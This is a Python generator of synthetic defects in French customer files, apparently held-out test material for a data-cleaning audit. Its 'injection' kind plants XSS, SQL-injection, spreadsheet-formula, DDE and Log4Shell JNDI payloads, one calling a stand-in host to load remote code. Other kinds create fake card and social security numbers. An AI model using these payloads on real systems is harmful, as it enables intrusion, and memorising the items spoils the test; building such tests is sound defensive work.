"""Defects by somebody who has cleaned customer files and has not seen how the audit works: `generate.py --kinds fresh`, `score.py --kinds
fresh`. A finding of any name about the row and the attribute is right; of kinds of whole records (`row=True`), any about the row.

Nothing in the engine has been made with these kinds in view; once something is, they measure it no longer."""
import datetime
import hashlib
import random
import re
import unicodedata
import urllib.parse

from clean import HOSTS, SOURCES, luhn_digit, make_iban, make_siret, plain
from kinds import CITY, COMPANY, EMAIL, GIVEN, PHONE, POSTCODE, STREET, SURNAME, UPDATED, Kind, every

ANY = "*"
KINDS = []
COUNT = 24
NAMES = every(GIVEN, SURNAME)
STREETS = {**STREET, "adherents": "adresse"}


def kind(name, columns, **options):
    def add(spoil):
        KINDS.append(Kind(name, columns, ANY, spoil, **{"count": COUNT, **options}))
        return spoil
    return add


def is_person(row, world):
    return bool(row[SURNAME[world.source]])


def digits_of(text):
    return re.sub(r"\D", "", text)


# ---- encodings and escapes

# An AS/400 or a DOS-time till exports in code page 850 and the import reads it as Windows text: "Ren‚" for "René".
@kind("dos_code_page", every(GIVEN, STREET, CITY))
def dos_code_page(row, column, world):
    return read_as(row[column], column, "cp850", "cp1252")


# A file saved as CSV by Excel for Mac (Mac Roman) and opened on Windows: "FranÁois", "HÈlËne".
@kind("mac_roman", every(GIVEN, STREET, CITY))
def mac_roman(row, column, world):
    return read_as(row[column], column, "mac_roman", "cp1252")


def read_as(text, column, written, read):
    try:
        out = text.encode(written).decode(read)
    except UnicodeError:
        return None
    return {column: out} if out != text and out.isprintable() else None


# Payment providers and carriers whose messages are plain ASCII drop the letters they do not know: "Franois", "Hlne".
@kind("dropped_accents", every(GIVEN, CITY))
def dropped_accents(row, column, world):
    out = "".join(c for c in row[column] if ord(c) < 128)
    return {column: out} if out != row[column] and len(out) > 2 else None


# A web form's body logged or forwarded without being decoded: "12%20Rue%20de%20l%27%C3%89glise".
@kind("url_encoded", every(STREET, CITY, EMAIL, GIVEN))
def url_encoded(row, column, world):
    out = world.rng.choice([urllib.parse.quote, urllib.parse.quote_plus])(row[column])
    return {column: out} if out != row[column] else None


# Orders read out of e-mails: the header's encoded words come along.
@kind("mime_word", NAMES)
def mime_word(row, column, world):
    if row[column].isascii():
        return None
    return {column: "=?UTF-8?Q?" + "".join(c if c.isascii() and c.isalnum() else "".join(f"={b:02X}" for b in c.encode()) for c in row[column]) + "?="}


# JSON or SQL escapes stored as text after a script concatenated its own statements: "Ren\u00e9e", "L\'Isle".
@kind("escape_left", every(GIVEN, STREET, CITY))
def escape_left(row, column, world):
    if "'" in row[column]:
        return {column: row[column].replace("'", "\\'" if world.rng.random() < .5 else "\\\\\\'")}
    out = "".join(c if c.isascii() else f"\\u{ord(c):04x}" for c in row[column])
    return {column: out} if out != row[column] else None


# Names pasted from a web page or a PDF carry zero-width blanks, soft hyphens or byte order marks that nobody sees.
@kind("invisible_character", every(SURNAME, EMAIL, CITY, PHONE))
def invisible_character(row, column, world):
    mark = world.rng.choice("\u00ad" if world.source == "crm" else "\u200b\u00ad\ufeff\u200e\u202c")
    at = world.rng.randint(0, len(row[column]))
    return {column: row[column][:at] + mark + row[column][at:]}


# People who were banned come back with Cyrillic or Greek letters that look like ours.
@kind("look_alike_letters", {s: c for s, c in SURNAME.items() if s != "crm"})
def look_alike_letters(row, column, world):
    alike = dict(zip("AaBEeKMHOoPpCcTXxyi", "АаВЕеКМНОоРрСсТХхуі"))
    places = [i for i, c in enumerate(row[column]) if c in alike]
    if not places:
        return None
    i = world.rng.choice(places)
    return {column: row[column][:i] + alike[row[column][i]] + row[column][i + 1:]}


# A file made on a Mac has its accents as separate marks, which no comparison takes for the same text.
@kind("decomposed_accents", {s: [GIVEN[s], CITY[s]] for s in ("boutique", "facturation")})
def decomposed_accents(row, column, world):
    return {column: unicodedata.normalize("NFD", row[column])}


# Address blocks typed into a many-line field, exported with their line breaks or <br>.
@kind("line_break_in_street", STREET)
def line_break_in_street(row, column, world):
    return {column: world.rng.choice(["Bâtiment B", "Résidence Les Pins", "2ème étage"]) + world.rng.choice(["\n", "\r\n", "<br>", "<br />", "\\n"]) + row[column]}


# Mainframe fields of fixed width arrive padded with blanks, or with no-break blanks out of HTML tables.
@kind("padded_field", every(SURNAME, CITY, STREET))
def padded_field(row, column, world):
    return {column: world.rng.choice([row[column].ljust(30), "\u00a0" + row[column], row[column] + "\u00a0", row[column].replace(" ", "   ") + "  ", "\t" + row[column]])}


# ---- spreadsheets and scripts

# The apostrophe or ="..." put there so that Excel keeps the zero, exported with the value.
@kind("text_marker", every(PHONE, POSTCODE))
def text_marker(row, column, world):
    return {column: world.rng.choice(["'{}", '="{}"', "`{}"]).format(row[column])}


# A column read as numbers with gaps by a pandas script: "69003.0", "612345678.0".
@kind("float_of_number", every(PHONE, POSTCODE, {"crm": ["siren"], "facturation": ["siren"]}))
def float_of_number(row, column, world):
    return {column: str(int(digits_of(row[column]))) + ".0"}


# Fields of fixed width filled with zeros on the left by an old system: "0069003".
@kind("zero_padded_postcode", POSTCODE)
def zero_padded_postcode(row, column, world):
    return {column: row[column].zfill(world.rng.choice([6, 7, 8]))}


# Somebody pulled the corner of a cell down: each next customer has the number above plus one.
@kind("dragged_phone", {"crm": "tel"}, needs_value=False)
def dragged_phone(row, column, world):
    if not hasattr(world, "drag"):
        place = random.Random(1).randrange(len(world.tables["crm"]) - 40)
        world.drag = (place, digits_of(next(r["tel"] for r in world.tables["crm"][place:] if r["tel"])))
    start, first = world.drag
    return {column: f"{int(first) + world.place - start:010d}"} if start <= world.place < start + COUNT + 6 else None


# The same corner, with a text: the address of one customer copied over the ones below.
@kind("filled_down_address", {"boutique": "address"}, row=True)
def filled_down_address(row, column, world):
    start = len(world.tables["boutique"]) // 3
    model = world.tables["boutique"][start]
    return {c: model[c] for c in ("address", "postcode", "city")} if start < world.place <= start + COUNT + 6 else None


# A separator inside a field that was not quoted: everything after it is one column to the right.
@kind("shifted_row", {"crm": "adresse"}, row=True)
def shifted_row(row, column, world):
    head, _, tail = row[column].partition(" ")
    return {"adresse": head, "cp": tail, "ville": row["cp"], "region": row["ville"], "segment": row["region"], "optin": row["segment"], "maj": row["optin"]}


# A quote that was never closed swallows the next separators, and with them the columns.
@kind("swallowed_separators", {"crm": "adresse", "boutique": "address"})
def swallowed_separators(row, column, world):
    postcode, city = row[POSTCODE[world.source]], row[CITY[world.source]]
    return {column: row[column] + (f'";"{postcode}";"{city}"' if world.source == "crm" else f'","{postcode}","{city}"')}


# Several exports put end to end with their headers.
@kind("repeated_header", {"crm": "nom", "boutique": "last_name"}, row=True, count=8)
def repeated_header(row, column, world):
    return {c: c for c in SOURCES[world.source]}


# The report's last line came along with the export.
@kind("total_row", {"crm": "nom", "facturation": "nom"}, row=True, count=4, needs_value=False)
def total_row(row, column, world):
    return {c: "" for c in SOURCES[world.source]} | {SOURCES[world.source][0]: world.rng.choice(["TOTAL", "Total général", "Sous-total"]), STREET[world.source]: str(world.rng.randint(100, 9000))}


# Days as the number that Excel has for them, or as seconds since 1970.
@kind("serial_or_epoch_date", every(UPDATED, {"boutique": ["birth_date", "created_at"]}))
def serial_or_epoch_date(row, column, world):
    parts = [int(n) for n in re.findall(r"\d+", row[column])]
    day = datetime.date(*(reversed(parts) if "/" in row[column] else parts))
    days = (day - datetime.date(1899, 12, 30)).days
    return {column: world.rng.choice([str(days), str((days - 25569) * 86400)])}


# JavaScript turned a local midnight into UTC: the day before, 22 or 23 h.
@kind("utc_midnight", {"boutique": ["birth_date", "updated_at", "created_at"], "facturation": "date_modification"})
def utc_midnight(row, column, world):
    day = datetime.date.fromisoformat(row[column]) - datetime.timedelta(1)
    return {column: f"{day}T{22 if 4 <= day.month <= 9 else 23}:00:00.000Z"}


# Two digits for the year, from an import macro of the nineties that is still in use.
@kind("two_digit_year", every(UPDATED, {"boutique": "birth_date"}))
def two_digit_year(row, column, world):
    return {column: re.sub(r"\b\d\d(\d\d)\b", r"\1", row[column])}


# Exported objects: the list, the pair or the PHP array that the value was in.
@kind("serialized_value", every(EMAIL, CITY, PHONE, GIVEN))
def serialized_value(row, column, world):
    v = row[column]
    return {column: world.rng.choice([f'["{v}"]', f"['{v}']", f'{{"value":"{v}"}}', f'a:1:{{i:0;s:{len(v.encode())}:"{v}";}}', f"({v},)"])}


# Mail merge and form scripts that sent the variable in place of the value.
@kind("template_variable", every(GIVEN, SURNAME, CITY, STREET))
def template_variable(row, column, world):
    return {column: world.rng.choice(["{{ customer." + column + " }}", "${" + column + "}", "%" + column.upper() + "%", "[[" + column + "]]", "undefined", "[object Object]", "<%= " + column + " %>", "NaN"])}


# Test of a security company or a real attack left in the base: formulas, scripts, SQL.
@kind("injection", every(SURNAME, GIVEN, STREET))
def injection(row, column, world):
    return {column: world.rng.choice(["=HYPERLINK(\"http://x.tk\",\"ici\")", "<script>alert(1)</script>", "' OR '1'='1", "=1+1", "\"><img src=x onerror=alert(1)>", "admin'--", "${jndi:ldap://x.tk/a}", "@SUM(1+1)*cmd|' /C calc'!A0"])}


# ---- merges and migrations

# A fusion of two bases kept both values, with its separator.
@kind("merged_values", every(GIVEN, CITY, SURNAME))
def merged_values(row, column, world):
    return {column: row[column] + world.rng.choice([" | ", "|", " ;; ", "##", " // "]) + world.other(column, row)}


# Both lines of the address were the same and the migration put them together.
@kind("street_twice", STREETS)
def street_twice(row, column, world):
    return {column: row[column] + world.rng.choice([" ", ", ", " - "]) + row[column]}


# The recipient was the first of the address lines and the street is lost.
@kind("recipient_for_street", STREETS)
def recipient_for_street(row, column, world):
    return {column: f"{row[GIVEN[world.source]]} {row[SURNAME[world.source]]}"} if is_person(row, world) else None


# The whole label in the street, from marketplaces that give one line.
@kind("whole_label_in_street", STREET)
def whole_label_in_street(row, column, world):
    return {column: f"{row[column]} {row[POSTCODE[world.source]]} {row[CITY[world.source]]}"}


# Marketplaces give one name: it goes whole into the surname, and the given name is there as well.
@kind("whole_name_in_surname", SURNAME)
def whole_name_in_surname(row, column, world):
    given = row[GIVEN[world.source]]
    return {column: world.rng.choice([f"{given} {row[column]}", f"{row[column]} {given}"])} if given else None


# Users who may not delete mark what is not to be used any more.
@kind("retired_mark", every(SURNAME, COMPANY))
def retired_mark(row, column, world):
    return {column: world.rng.choice(["ZZZ{}", "ZZ_{}", "*** {}", "#{}", "OLD {}", "{} - A SUPPRIMER", "DOUBLON {}", "{} NE PLUS UTILISER", "xx{}xx", "{} (ancien)"]).format(row[column])}


# Software that deletes softly frees the address for a next account by changing it.
@kind("freed_email", EMAIL)
def freed_email(row, column, world):
    stamp = world.rng.randint(1_500_000_000, 1_780_000_000)
    return {column: world.rng.choice([f"{row[column]}.deleted.{stamp}", f"deleted_{stamp}_{row[column]}", f"{row[column]}_old", f"archive-{stamp}-{row[column]}"])}


# A copy of the test instance was taken back into production, with its addresses made harmless.
@kind("sandbox_email", EMAIL)
def sandbox_email(row, column, world):
    return {column: world.rng.choice([row[column] + ".invalid", row[column].replace("@", "=") + "@example.com", row[column].replace("@", "_at_") + "@yopmail.com", row[column] + ".test"])}


# Identifiers of records made while the numbering was down.
@kind("placeholder_id", {"crm": "id_client", "boutique": "id", "facturation": "ref"}, row=True)
def placeholder_id(row, column, world):
    return {column: world.rng.choice(["TEMP{}", "NEW-{}", "PROV{}", "-{}", "?{}"]).format(world.rng.randint(1, 999))}


# A nightly job touched a lot of records, and their date of change says nothing any more.
@kind("mass_update_date", {"crm": "maj"}, count=160)
def mass_update_date(row, column, world):
    return {column: "01/07/2024"}


# ---- call centers, counters, and those who fill in forms

# The title is wrong for the given name: heard on the phone, or the first one in the list.
@kind("title_against_name", {"crm": "civilite"})
def title_against_name(row, column, world):
    if not hasattr(world, "titles"):
        world.titles = {}
        for r in world.tables["crm"]:
            world.titles.setdefault(r["prenom"], []).append(r["civilite"])
    seen = [t for t in world.titles[row["prenom"]] if t]
    if len(seen) < 10 or seen.count(row[column]) < .97 * len(seen):
        return None
    return {column: "Mme" if row[column] == "M." else "M."}


# A shop software that wants a title gives one to companies as well.
@kind("title_of_company", {"crm": "civilite"}, needs_value=False)
def title_of_company(row, column, world):
    return {column: world.rng.choice(["M.", "M.", "Mme"])} if row["raison_sociale"] and not row["nom"] else None


# One account for two: whoever answered gave both names.
@kind("couple_as_person", GIVEN)
def couple_as_person(row, column, world):
    other = world.other(column, row)
    return {column: row[column] + world.rng.choice([" et ", " & ", " ou ", "/", " + "]) + other}


# The maiden name, as civil servants and health insurers write it.
@kind("maiden_name_in_surname", SURNAME)
def maiden_name_in_surname(row, column, world):
    return {column: row[column] + world.rng.choice([" née ", " NEE ", " ép. ", " EPOUSE ", " vve "]) + world.other(column, row)}


# After a death or under guardianship the letters go to somebody else.
@kind("estate_or_guardian", SURNAME)
def estate_or_guardian(row, column, world):
    return {column: world.rng.choice(["SUCCESSION {}", "Héritiers {}", "Indivision {}", "{} (DCD)", "{} s/c UDAF", "Feu {}", "{} DECEDE", "Hoirie {}"]).format(row[column])}


# The post brought it back, and somebody wrote that where there was room.
@kind("returned_mail_in_street", STREET)
def returned_mail_in_street(row, column, world):
    return {column: world.rng.choice(["NPAI {}", "{} NPAI", "PND - {}", "{} (n'habite plus)", "{} RETOUR POSTE 03/24", "N'HABITE PAS A L'ADRESSE INDIQUEE"]).format(row[column])}


# For the driver's sake: door codes, names on bells, floors; a risk when the file leaks.
@kind("door_code_in_street", STREET)
def door_code_in_street(row, column, world):
    code = f"{world.rng.randint(10, 99)}{world.rng.choice('AB')}{world.rng.randint(10, 99)}"
    return {column: row[column] + world.rng.choice([f" code {code}", f" digicode : {code}", f" (interphone {world.person()[1]})", f" - clé sous le pot, code {code}", f" sonner chez {world.person()[1]}"])}


# When to call and whom to ask for.
@kind("comment_in_phone", PHONE)
def comment_in_phone(row, column, world):
    return {column: row[column] + world.rng.choice([" (après 18h)", " poste 214", " Mme", " le soir", " faux n°", " (bureau)", " demander Julie", " ne pas appeler"])}


# Comments and patches of bounces in the address itself.
@kind("comment_in_email", EMAIL)
def comment_in_email(row, column, world):
    return {column: world.rng.choice(["{} (HS)", "{} NPAI", "HB-{}", "{} (mail de sa fille)", "STOP {}", "ne pas utiliser {}", "{} invalide"]).format(row[column])}


# What a mail program copies: the name with it, or mailto:.
@kind("copied_from_mail_program", EMAIL)
def copied_from_mail_program(row, column, world):
    name = row[GIVEN[world.source]] + " " + row[SURNAME[world.source]]
    return {column: world.rng.choice([f"{name} <{row[column]}>", f"mailto:{row[column]}", f"<{row[column]}>", f"{row[column]};", f"[{row[column]}](mailto:{row[column]})"])}


# People who take an e-mail address for a web address.
@kind("web_address_for_email", EMAIL)
def web_address_for_email(row, column, world):
    return {column: world.rng.choice(["www." + row[column], "www." + row[column].split("@")[0] + ".fr", "http://" + row[column], "https://www.facebook.com/" + row[column].split("@")[0]])}


# Digits typed on a French keyboard without the shift key.
@kind("unshifted_digits", every(PHONE, POSTCODE))
def unshifted_digits(row, column, world):
    return {column: digits_of(row[column]).translate(str.maketrans("0123456789", "à&é\"'(-è_ç"))}


# Caps lock on, and shift for the first letter.
@kind("inverted_case", {"boutique": ["first_name", "last_name", "city"], "crm": "prenom", "facturation": ["prenom", "commune"], "adherents": ["nom", "prenom"]})
def inverted_case(row, column, world):
    out = row[column].swapcase()
    return {column: out} if len(out) > 3 else None


# Judgements that must not be in a file that the customer can ask to see.
@kind("judgement_on_customer", every(STREET, SURNAME))
def judgement_on_customer(row, column, world):
    return {column: row[column] + world.rng.choice([" MAUVAIS PAYEUR", " (pénible)", " - ATTENTION ARNAQUEUR", " !!! chiant", " client à éviter", " (alcoolique)", " IMPAYE"])}


# The scanner at the till was in the wrong field.
@kind("scanned_barcode", every(PHONE, SURNAME, POSTCODE, EMAIL))
def scanned_barcode(row, column, world):
    body = "3" + f"{world.rng.randrange(10 ** 11):011d}"
    return {column: body + str(-sum(int(d) * (3 if i % 2 else 1) for i, d in enumerate(body)) % 10)}


# The sales of a day on one account: how till and accounting software calls it.
@kind("counter_account", every(SURNAME, COMPANY))
def counter_account(row, column, world):
    return {column: world.rng.choice(["CLIENT DIVERS", "CLIENTS COMPTOIR", "VENTE COMPTOIR", "Client de passage", "DIVERS PARTICULIERS", "Clients Internet", "CLIENT CAISSE", "VENTE AU DETAIL"])}


# The legal form alone, the name went to another field or was never asked.
@kind("legal_form_alone", COMPANY)
def legal_form_alone(row, column, world):
    return {column: world.rng.choice(["SARL", "SAS", "Ets", "EURL", "S.A.", "Association", "SCI", "Société", "auto-entrepreneur", "Profession libérale"])}


# Company names with their number, from paid directories.
@kind("number_in_company_name", COMPANY)
def number_in_company_name(row, column, world):
    return {column: row[column] + " " + (row["siren"] or world.other("siren", row)) if world.rng.random() < .5 else f"{row[column]} - RCS LYON {world.other('siren', row)}"}


# ---- people who hide, and abuse

# One person with many accounts for the welcome voucher: dots and +words that the provider ignores.
@kind("one_mailbox_many_accounts", {"boutique": "email"})
def one_mailbox_many_accounts(row, column, world):
    def make(number):
        given, family = random.Random(number).choice(world.persons)
        return plain(given) + plain(family)
    base = world.shared("alias", 6, make)
    at = world.rng.randint(1, len(base) - 1)
    return {column: world.rng.choice([f"{base}+{world.rng.randint(1, 99)}@gmail.com", f"{base[:at]}.{base[at:]}@gmail.com", f"{base}+{world.rng.choice(['promo', 'bon', 'noel', 'new'])}{world.rng.randint(1, 99)}@gmail.com"])}


# Boxes made in series by a program, for vouchers or reviews.
@kind("numbered_mailboxes", {"boutique": "email"})
def numbered_mailboxes(row, column, world):
    world.series = getattr(world, "series", 100) + 1
    return {column: f"lucas.promo{world.series}@outlook.com"}


# Sign-ups of robots: letters by chance in both names.
@kind("robot_names", {"boutique": "first_name"}, row=True)
def robot_names(row, column, world):
    def letters():
        return "".join(world.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(world.rng.randint(8, 14)))
    return {"first_name": letters(), "last_name": letters()}


# Robots that use the welcome mail to carry their advertisement.
@kind("spam_in_name", {"boutique": ["first_name", "last_name"]})
def spam_in_name(row, column, world):
    return {column: world.rng.choice(["🎁 You won 1.3 BTC - bit.ly/3xQz", "Crédit rapide wa.me/22967", "💋 Anna is waiting http://t.ly/aa", "Cheap SEO backlinks seo-top.ru", "Получите 5000 руб", "Win iPhone >>> t.me/prize"])}


# Those who do not want to say who they are take a hero or a president.
@kind("joke_identity", {"crm": "nom", "boutique": "last_name", "facturation": "nom"}, row=True)
def joke_identity(row, column, world):
    given, family = world.rng.choice(["Mickey Mouse", "Homer Simpson", "Harry Potter", "Emmanuel Macron", "Bob Léponge", "Jean Bon", "Père Noël", "Darth Vader", "Victor Hugo", "Alain Proviste", "Lara Croft", "Tintin Milou"]).split()
    return {GIVEN[world.source]: given, column: family.upper() if row[column].isupper() else family}


# Addresses of the provider's own services, given so that something is given.
@kind("role_mailbox_of_provider", EMAIL)
def role_mailbox_of_provider(row, column, world):
    return {column: f"{world.rng.choice(['abuse', 'postmaster', 'webmaster', 'noreply', 'support', 'admin', 'spam'])}@{world.rng.choice(HOSTS)}"} if is_person(row, world) else None


# Numbers that the regulator keeps for films (01 99 00, 06 39 98), found in articles and given to shops.
@kind("phone_for_films", PHONE)
def phone_for_films(row, column, world):
    return {column: world.rng.choice(["019900", "026191", "035301", "046571", "053649", "063998"]) + f"{world.rng.randrange(10_000):04d}"}


# Premium or service numbers and short codes, for a person who will not be called.
@kind("service_number_of_person", PHONE)
def service_number_of_person(row, column, world):
    return {column: world.rng.choice(["3949", "3631", "1023", "0899", "0892"]) if world.rng.random() < .4 else f"{world.rng.choice(['0899', '0892', '0800', '0811'])}{world.rng.randrange(10 ** 6):06d}"} if is_person(row, world) else None


# Minors who say that they came of age on the day of the order.
@kind("eighteen_to_the_day", {"boutique": "birth_date"})
def eighteen_to_the_day(row, column, world):
    return {column: f"{int(row['created_at'][:4]) - 18}{row['created_at'][4:]}"}


# The first of January: the year was true, the rest was in the way.
@kind("first_of_january", {"boutique": "birth_date"}, count=200)
def first_of_january(row, column, world):
    return {column: row[column][:4] + "-01-01"}


# Goods ordered with stolen cards go to one door, with a comma here and a flat there.
@kind("mule_address", {"boutique": "address"}, row=True)
def mule_address(row, column, world):
    n, street = world.shared("mule", 12, lambda i: [("14", "Rue Pasteur"), ("7", "Allée des Tilleuls"), ("128", "Avenue Jean Jaurès")][i % 3])
    form = world.rng.choice(["{n} {s}", "{n}, {s}", "{n} {s} Apt {k}", "{n} {u}", "{n}  {s} bat {k}", "{n}bis {s}", "N°{n} {s}"])
    return {column: form.format(n=n, s=street, u=street.upper(), k=world.rng.randint(1, 60)), "postcode": "93120", "city": "La Courneuve"}


# No home, or none to be told.
@kind("no_fixed_address", STREET)
def no_fixed_address(row, column, world):
    return {column: world.rng.choice(["Poste restante", "SDF", "sans domicile fixe", "chez un ami", "voir facture", "idem", "même adresse", "rue", "en face de la mairie", "Domicile", "adresse habituelle"])}


# Parcels to a shop or a locker: the delivery address took the place of the customer's.
@kind("pickup_point_for_street", STREET)
def pickup_point_for_street(row, column, world):
    return {column: world.rng.choice(["Relais Colis Tabac de la Gare", "POINT RELAIS n°{} SUPERETTE VIVAL", "Amazon Locker - Tilda", "Mondial Relay {}", "Pickup Station {} Gare SNCF", "Consigne Pickup {}"]).format(world.rng.randint(10000, 99999))}


# A password in the next field: the cursor was not where it seemed.
@kind("password_in_name", {"boutique": ["first_name", "last_name", "city"]})
def password_in_name(row, column, world):
    return {column: plain(row[column]).capitalize() + f"{world.rng.randint(1, 2010)}" + world.rng.choice("!?*$#@")}


# ---- marketplaces, shop software, payment providers

# Marketplaces hide the buyer behind a relay that dies after the sale.
@kind("marketplace_relay", EMAIL)
def marketplace_relay(row, column, world):
    token = "".join(world.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(15))
    return {column: world.rng.choice([f"{token}@marketplace.amazon.fr", f"{token[:6]}{token[6:12]}@members.ebay.com", f"{token}@notification.mirakl.net", f"NOSEND-{token[:8].upper()}@ebay.fr", f"{token[:10]}@privaterelay.appleid.com"])}


# The till makes an address out of the shop's own domain where the customer has none.
@kind("address_made_by_till", {"crm": "email", "boutique": "email"})
def address_made_by_till(row, column, world):
    return {column: f"{world.rng.randint(100000, 999999)}@magasin-{world.rng.choice(['lyon', 'lille', 'nice'])}.enseigne-client.fr"}


# The customer that the shop software is delivered with.
@kind("demo_customer", {"boutique": "email"}, row=True, count=8)
def demo_customer(row, column, world):
    return world.rng.choice([
        {"first_name": "John", "last_name": "DOE", "email": "pub@prestashop.com", "address": "16, Main street", "postcode": "75002", "city": "Paris"},
        {"first_name": "Veronica", "last_name": "Costello", "email": "roni_cost@example.com", "address": "6146 Honey Bluff Parkway", "postcode": "49628", "city": "Calder"}])


# The first of the list of countries, because none was chosen.
@kind("first_country_of_list", {"facturation": "pays"})
def first_country_of_list(row, column, world):
    return {column: world.rng.choice(["Afghanistan", "Afghanistan", "Afrique du Sud", "Andorre"])}


# Codes and other languages in a column of French names.
@kind("country_in_other_form", {"facturation": "pays"})
def country_in_other_form(row, column, world):
    return {column: world.rng.choice(["FR", "FRA", "Frankreich", "FRANCE METROPOLITAINE", "250", "F", "Francia"])}


# A customer abroad with the country that the shop puts by default.
@kind("foreign_place_in_france", POSTCODE, row=True)
def foreign_place_in_france(row, column, world):
    postcode, city = world.rng.choice([("1050", "Ixelles"), ("B-4000", "Liège"), ("1204", "Genève"), ("L-1450", "Luxembourg"), ("10115", "Berlin"), ("28013", "Madrid"), ("H2X 1Y4", "Montréal"), ("SW1A 1AA", "London"), ("98000", "Monaco"), ("20121", "Milano")])
    return {column: postcode, CITY[world.source]: city.upper() if world.source == "crm" else city}


# Who knows only the department writes it and three zeros.
@kind("department_and_zeros", POSTCODE)
def department_and_zeros(row, column, world):
    if world.places[row[column][:2] + "000", plain(row[CITY[world.source]])]:
        return None  # it has that one as well
    return {column: row[column][:2] + "000"}


# A town's list in which one could choose the department or the country.
@kind("department_or_country_for_town", CITY)
def department_or_country_for_town(row, column, world):
    out = world.rng.choice(["Rhône", "Val-d'Oise", "Seine-Saint-Denis", "Bouches-du-Rhône", "France", "Gironde", "Île-de-France", "Bretagne"])
    return {column: out.upper() if world.source == "crm" else out}


# The arrondissement in the town's name is not the one of the postcode.
@kind("other_arrondissement", CITY)
def other_arrondissement(row, column, world):
    postcode = row[POSTCODE[world.source]]
    most = {"75": 20, "69": 9, "13": 16}.get(postcode[:2])
    if plain(row[column]) not in ("paris", "lyon", "marseille") or not most:
        return None
    number = world.rng.choice([n for n in range(1, most + 1) if n != int(postcode[3:])])
    return {column: f"{row[column]} {number:02d}"}


# Payment providers give back the masked number, and the import writes it over the true one.
@kind("masked_number", {"facturation": ["iban", "telephone", "email"], "crm": ["tel", "email"], "boutique": ["phone", "email"]})
def masked_number(row, column, world):
    v = row[column]
    if "@" in v:
        return {column: v[0] + "***@" + v.split("@")[1]}
    v = v.replace(" ", "")
    return {column: v[:4] + world.rng.choice("X*x") * (len(v) - 8) + v[-4:] if len(v) > 12 else v[:2] + "******" + v[-2:]}


# The specimen of the bank's leaflet, valid as it is.
@kind("specimen_iban", {"facturation": "iban"})
def specimen_iban(row, column, world):
    return {column: world.rng.choice(["FR7630006000011234567890189", "FR1420041010050500013M02606", "DE89370400440532013000", "GB29NWBK60161331926819"])}


# One account under many names: one's own bank details, or someone collecting refunds.
@kind("iban_of_many", {"facturation": "iban"})
def iban_of_many(row, column, world):
    return {column: world.shared(column, 8, lambda number: make_iban(random.Random(1000 + number)))}


# The bank's code where the account's was asked.
@kind("bic_for_iban", {"facturation": "iban"})
def bic_for_iban(row, column, world):
    return {column: world.rng.choice(["BNPAFRPPXXX", "AGRIFRPP882", "CEPAFRPP", "PSSTFRPPLYO", "CMCIFR2A", "SOGEFRPP"])}


# Card numbers typed or dictated into any field; the payment industry's auditors look for them first.
@kind("card_number", {"facturation": ["iban", "raison_sociale", "telephone"], "crm": ["raison_sociale", "tel", "adresse"]}, needs_value=False)
def card_number(row, column, world):
    body = world.rng.choice(["4970", "5132", "4561"]) + f"{world.rng.randrange(10 ** 11):011d}"
    number = body + luhn_digit(body)
    return {column: (row[column] + " CB " if column == "adresse" else "") + world.rng.choice([number, " ".join(number[i:i + 4] for i in range(0, 16, 4))])}


# The social security number, asked for by health insurers and written where there was room.
@kind("social_security_number", {"facturation": ["siren", "raison_sociale"], "crm": ["siret", "adresse"]}, needs_value=False)
def social_security_number(row, column, world):
    if not is_person(row, world):
        return None
    body = f"{world.rng.choice('12')}{world.rng.randint(40, 99)}{world.rng.randint(1, 12):02d}{world.rng.randint(1, 95):02d}{world.rng.randint(1, 500):03d}{world.rng.randint(1, 300):03d}"
    return {column: (row[column] + " SS " if column == "adresse" else "") + f"{body}{97 - int(body) % 97:02d}"}


# ---- companies

# Members of a purchasing group entered with the group's number: coherent in each record, and the same under many names.
@kind("siren_of_many", {"crm": "siren"})
def siren_of_many(row, column, world):
    def make(number):
        digits = f"{random.Random(2000 + number).randrange(30_000_000, 89_999_999)}"
        return digits + luhn_digit(digits)
    siren = world.shared(column, 8, make)
    return {column: siren} | ({"siret": make_siret(siren, world.rng)} if row["siret"] else {})


# Software that wants fourteen digits and gets nine fills up with zeros.
@kind("siren_filled_up_to_siret", {"crm": "siret"})
def siren_filled_up_to_siret(row, column, world):
    return {column: world.rng.choice([row[column][:9], row[column][:9] + "00000", row[column][:9] + "99999"])}


# The VAT number without its key, or of another country beside a French place.
@kind("vat_without_key_or_foreign", {"facturation": "tva"})
def vat_without_key_or_foreign(row, column, world):
    body = f"0{world.rng.randrange(1_000_000, 9_999_999)}"
    return {column: world.rng.choice(["FR" + row[column][4:], f"BE{body}{97 - int(body) % 97:02d}"])}


# An employee's or a customer's own choice of a company name on a private account, as the shop wants one.
@kind("private_in_company", COMPANY, needs_value=False)
def private_in_company(row, column, world):
    return {column: world.rng.choice(["particulier", "Perso", "Personne physique", "moi", "Maison", "retraité", "pas d'entreprise", "Étudiant", "sans emploi"])} if is_person(row, world) and not row[column] else None


# ---- erasures

# Erased on request, by hand or by a module, and by halves: the name is gone, the street and the phone are not.
@kind("half_erasure", {"boutique": "last_name", "crm": "nom", "facturation": "nom"}, row=True)
def half_erasure(row, column, world):
    given, family, email = world.rng.choice([("Anonymous", "Anonymous", "anonymous@psgdpr.com"), ("RGPD", "SUPPRIME", ""), ("Anonyme", "Client", f"anonyme{world.rng.randint(1, 9999)}@rgpd.local"), ("", "DROIT A L'OUBLI", ""), ("effacé", "effacé", "efface@efface.fr")])
    return {GIVEN[world.source]: given, column: family, EMAIL[world.source]: email}


# The anonymization wrote a digest over the value.
@kind("digest_for_value", every(SURNAME, EMAIL, PHONE, STREET))
def digest_for_value(row, column, world):
    make = world.rng.choice([hashlib.md5, hashlib.sha1, hashlib.sha256])
    return {column: make(row[column].encode()).hexdigest()}
